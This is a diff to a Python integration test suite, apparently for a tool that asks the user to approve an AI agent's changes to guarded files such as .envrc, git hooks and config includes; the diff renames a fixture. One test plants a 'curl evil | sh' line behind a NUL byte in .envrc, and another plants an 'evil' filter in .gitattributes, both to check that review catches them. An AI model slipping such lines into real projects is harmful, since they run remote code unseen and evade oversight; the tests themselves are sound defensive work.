@@ -14,22 +14,22 @@ from podium.git import GitWorkspaces
 from podium.platform.system_clock import SystemClock, SystemIds
 from podium.ports import Workspace
 from podium.sandbox import ProcessLauncher
-from tests.integration.workspaces.yard import Yard, agent_commits, agent_git
+from tests.integration.workspaces.git_project import GitProject, agent_commits, agent_git
 from tests.soaking import in_soak
 
 CHECKS = "checks: ['pytest -q']\n"
 
 
 @pytest.fixture
-def yard(tmp_path: Path) -> Yard:
-    yard = Yard(tmp_path).build()
-    (yard.repository / "podium.yaml").write_text(CHECKS)
-    (yard.repository / "env").mkdir()
-    (yard.repository / "env/dev.sh").write_text("export A=1\n")
-    (yard.repository / ".envrc").symlink_to("env/dev.sh")
-    yard.git("add", "--all")
-    yard.git("commit", "--quiet", "--message=guards")
-    return yard
+def git_project(tmp_path: Path) -> GitProject:
+    git_project = GitProject(tmp_path).build()
+    (git_project.repository / "podium.yaml").write_text(CHECKS)
+    (git_project.repository / "env").mkdir()
+    (git_project.repository / "env/dev.sh").write_text("export A=1\n")
+    (git_project.repository / ".envrc").symlink_to("env/dev.sh")
+    git_project.git("add", "--all")
+    git_project.git("commit", "--quiet", "--message=guards")
+    return git_project
 
 
 async def asked(workspace: Workspace, approved: str = "") -> GuardedChange:
@@ -97,19 +97,21 @@ def plants_a_hook(record: WorkspaceRecord) -> None:
     ],
 )
 async def test_a_guarded_file_is_asked_about_with_its_diff(
-    yard: Yard, act: Callable[[WorkspaceRecord], object], named: str, shown: str
+    git_project: GitProject, act: Callable[[WorkspaceRecord], object], named: str, shown: str
 ) -> None:
-    workspace = await yard.made()
-    before = yard.refs()
+    workspace = await git_project.made()
+    before = git_project.refs()
     act(workspace.record)
     change = await asked(workspace)
     assert named in change.files
     assert shown in change.diff
-    assert yard.refs() == before
+    assert git_project.refs() == before
 
 
-async def test_an_approval_is_for_one_diff_and_ordinary_commits_need_none(yard: Yard) -> None:
-    workspace = await yard.made()
+async def test_an_approval_is_for_one_diff_and_ordinary_commits_need_none(
+    git_project: GitProject,
+) -> None:
+    workspace = await git_project.made()
     agent_commits(workspace.record, "one.txt", "more\n")
     agent_commits(workspace.record, ".gitattributes", "docs/log.md merge=union\n")
     assert (await workspace.deliver()).commits
@@ -124,13 +126,13 @@ async def test_an_approval_is_for_one_diff_and_ordinary_commits_need_none(yard: 
 
 
 @pytest.mark.soak
-async def test_a_merge_that_keeps_the_older_guards_is_asked_about(yard: Yard) -> None:
-    workspace = await yard.made()
+async def test_a_merge_that_keeps_the_older_guards_is_asked_about(git_project: GitProject) -> None:
+    workspace = await git_project.made()
     agent_commits(workspace.record, "one.txt", "mine\n")
     await workspace.deliver()
-    (yard.repository / "podium.yaml").write_text("checks: ['pytest -q', mypy]\n")
-    yard.git("commit", "--quiet", "--all", "--message=stricter")
-    theirs = yard.git("rev-parse", "HEAD")
+    (git_project.repository / "podium.yaml").write_text("checks: ['pytest -q', mypy]\n")
+    git_project.git("commit", "--quiet", "--all", "--message=stricter")
+    theirs = git_project.git("rev-parse", "HEAD")
     record = workspace.record
     agent_git(record, "merge", "--quiet", "-s", "ours", "--no-edit", theirs)
     change = await asked(workspace)
@@ -150,19 +152,26 @@ class CountingLauncher(ProcessLauncher):
         return await super().run(spawn)
 
 
-async def test_a_merge_of_many_guarded_files_is_compared_once(yard: Yard) -> None:
-    settings = yard.repository / ".vscode"
+async def test_a_merge_of_many_guarded_files_is_compared_once(git_project: GitProject) -> None:
+    settings = git_project.repository / ".vscode"
     settings.mkdir()
-    workspace = await yard.made()
+    workspace = await git_project.made()
     agent_commits(workspace.record, "one.txt", "mine\n")
     for number in range(20):
         (settings / f"{number}.json").write_text("{}")
-    yard.git("add", "--all")
-    yard.git("commit", "--quiet", "--message=theirs")
-    agent_git(workspace.record, "merge", "--quiet", "--no-edit", yard.git("rev-parse", "HEAD"))
+    git_project.git("add", "--all")
+    git_project.git("commit", "--quiet", "--message=theirs")
+    agent_git(
+        workspace.record, "merge", "--quiet", "--no-edit", git_project.git("rev-parse", "HEAD")
+    )
     launcher = CountingLauncher()
     workspaces = GitWorkspaces(
-        launcher, yard.state, SystemClock(), SystemIds(), secrets_in=yard.secrets_in, confined=False
+        launcher,
+        git_project.state,
+        SystemClock(),
+        SystemIds(),
+        secrets_in=git_project.secrets_in,
+        confined=False,
     )
     assert (await (await workspaces.open(workspace.record.id)).deliver()).commits
     compared = [argv for argv in launcher.started if {"diff-tree", "--name-only"} <= set(argv)]
@@ -170,20 +179,20 @@ async def test_a_merge_of_many_guarded_files_is_compared_once(yard: Yard) -> Non
 
 
 @pytest.mark.soak
-async def test_a_merge_that_takes_the_users_guards_is_not(yard: Yard) -> None:
-    workspace = await yard.made()
+async def test_a_merge_that_takes_the_users_guards_is_not(git_project: GitProject) -> None:
+    workspace = await git_project.made()
     loosens(workspace.record)
     await workspace.deliver((await asked(workspace)).digest)
-    (yard.repository / "two.txt").write_text("theirs\n")
-    yard.git("add", "--all")
-    yard.git("commit", "--quiet", "--message=theirs")
+    (git_project.repository / "two.txt").write_text("theirs\n")
+    git_project.git("add", "--all")
+    git_project.git("commit", "--quiet", "--message=theirs")
     await workspace.merge("main", "Merge", {"Podium-Step": "merge"})
     assert (await workspace.deliver()).commits
 
 
-async def test_the_folder_that_git_takes_hooks_from_is_guarded(yard: Yard) -> None:
-    yard.git("config", "core.hooksPath", "tools/git")
-    workspace = await yard.made()
+async def test_the_folder_that_git_takes_hooks_from_is_guarded(git_project: GitProject) -> None:
+    git_project.git("config", "core.hooksPath", "tools/git")
+    workspace = await git_project.made()
     Path(workspace.record.path, "tools/git").mkdir(parents=True)
     agent_commits(workspace.record, "tools/git/helper.sh")
     assert (await asked(workspace)).paths == ("tools/git/helper.sh",)
@@ -238,31 +247,31 @@ def links_above(record: WorkspaceRecord) -> None:
     ],
 )  # fmt: skip
 async def test_what_guarded_files_lead_to_is_guarded(
-    yard: Yard,
+    git_project: GitProject,
     files: dict[str, str],
     links_to: dict[str, str],
     act: Callable[[WorkspaceRecord], object],
     paths: tuple[str, ...],
 ) -> None:
     for path, text in files.items():
-        (yard.repository / path).parent.mkdir(parents=True, exist_ok=True)
-        (yard.repository / path).write_text(text)
+        (git_project.repository / path).parent.mkdir(parents=True, exist_ok=True)
+        (git_project.repository / path).write_text(text)
     for path, target in links_to.items():
-        (yard.repository / path).symlink_to(target)
-    yard.git("add", "--all")
-    yard.git("commit", "--quiet", "--allow-empty", "--message=indirect")
-    workspace = await yard.made()
+        (git_project.repository / path).symlink_to(target)
+    git_project.git("add", "--all")
+    git_project.git("commit", "--quiet", "--allow-empty", "--message=indirect")
+    workspace = await git_project.made()
     act(workspace.record)
     assert (await asked(workspace)).paths == paths
 
 
-async def test_settings_that_the_users_git_includes_are_guarded(yard: Yard) -> None:
-    (yard.repository / "tools").mkdir()
-    (yard.repository / "tools/git.conf").write_text("[include]\npath = more.conf\n")
-    yard.git("add", "--all")
-    yard.git("commit", "--quiet", "--message=settings")
-    yard.git("config", "include.path", "../tools/git.conf")
-    workspace = await yard.made()
+async def test_settings_that_the_users_git_includes_are_guarded(git_project: GitProject) -> None:
+    (git_project.repository / "tools").mkdir()
+    (git_project.repository / "tools/git.conf").write_text("[include]\npath = more.conf\n")
+    git_project.git("add", "--all")
+    git_project.git("commit", "--quiet", "--message=settings")
+    git_project.git("config", "include.path", "../tools/git.conf")
+    workspace = await git_project.made()
     agent_commits(workspace.record, "tools/more.conf", "[core]\n")
     agent_commits(workspace.record, "tools/other.conf", "[core]\n")
     agent_commits(workspace.record, "tools/git.conf", "[core]\n")
@@ -270,11 +279,11 @@ async def test_settings_that_the_users_git_includes_are_guarded(yard: Yard) -> N
 
 
 async def test_an_included_file_in_an_unknown_home_keeps_nothing_from_coming_back(
-    yard: Yard,
+    git_project: GitProject,
 ) -> None:
-    yard.git("config", "includeIf.gitdir:/nowhere/.path", "~nobody-of-this-name/x")
-    yard.git("config", "core.hooksPath", "tools")
-    workspace = await yard.made()
+    git_project.git("config", "includeIf.gitdir:/nowhere/.path", "~nobody-of-this-name/x")
+    git_project.git("config", "core.hooksPath", "tools")
+    workspace = await git_project.made()
     agent_commits(workspace.record, "new.txt")
     assert (await workspace.deliver()).commits
     (Path(workspace.record.path) / "tools").mkdir()
@@ -282,20 +291,22 @@ async def test_an_included_file_in_an_unknown_home_keeps_nothing_from_coming_bac
     assert (await asked(workspace)).paths == ("tools/pre-commit",)
 
 
-async def test_a_diff_that_is_too_long_to_be_shown_is_refused(yard: Yard) -> None:
-    workspace = await yard.made()
+async def test_a_diff_that_is_too_long_to_be_shown_is_refused(git_project: GitProject) -> None:
+    workspace = await git_project.made()
     agent_commits(workspace.record, "podium.yaml", "# line\n" * 20_000)
     with pytest.raises(ImportRefused, match=r"too large to review \(podium.yaml\)"):
         await workspace.deliver()
 
 
-async def test_a_nul_byte_does_not_hide_the_lines_of_a_guarded_file(yard: Yard) -> None:
-    workspace = await yard.made()
+async def test_a_nul_byte_does_not_hide_the_lines_of_a_guarded_file(
+    git_project: GitProject,
+) -> None:
+    workspace = await git_project.made()
     agent_commits(workspace.record, ".envrc", "# x\0\ncurl evil | sh\n")
     assert "+curl evil | sh" in (await asked(workspace)).diff
 
 
-async def test_a_form_feed_does_not_hide_a_driver(yard: Yard) -> None:
-    workspace = await yard.made()
+async def test_a_form_feed_does_not_hide_a_driver(git_project: GitProject) -> None:
+    workspace = await git_project.made()
     agent_commits(workspace.record, ".gitattributes", "*[!\f#] filter=evil\n")
     assert (await asked(workspace)).paths == (".gitattributes",)
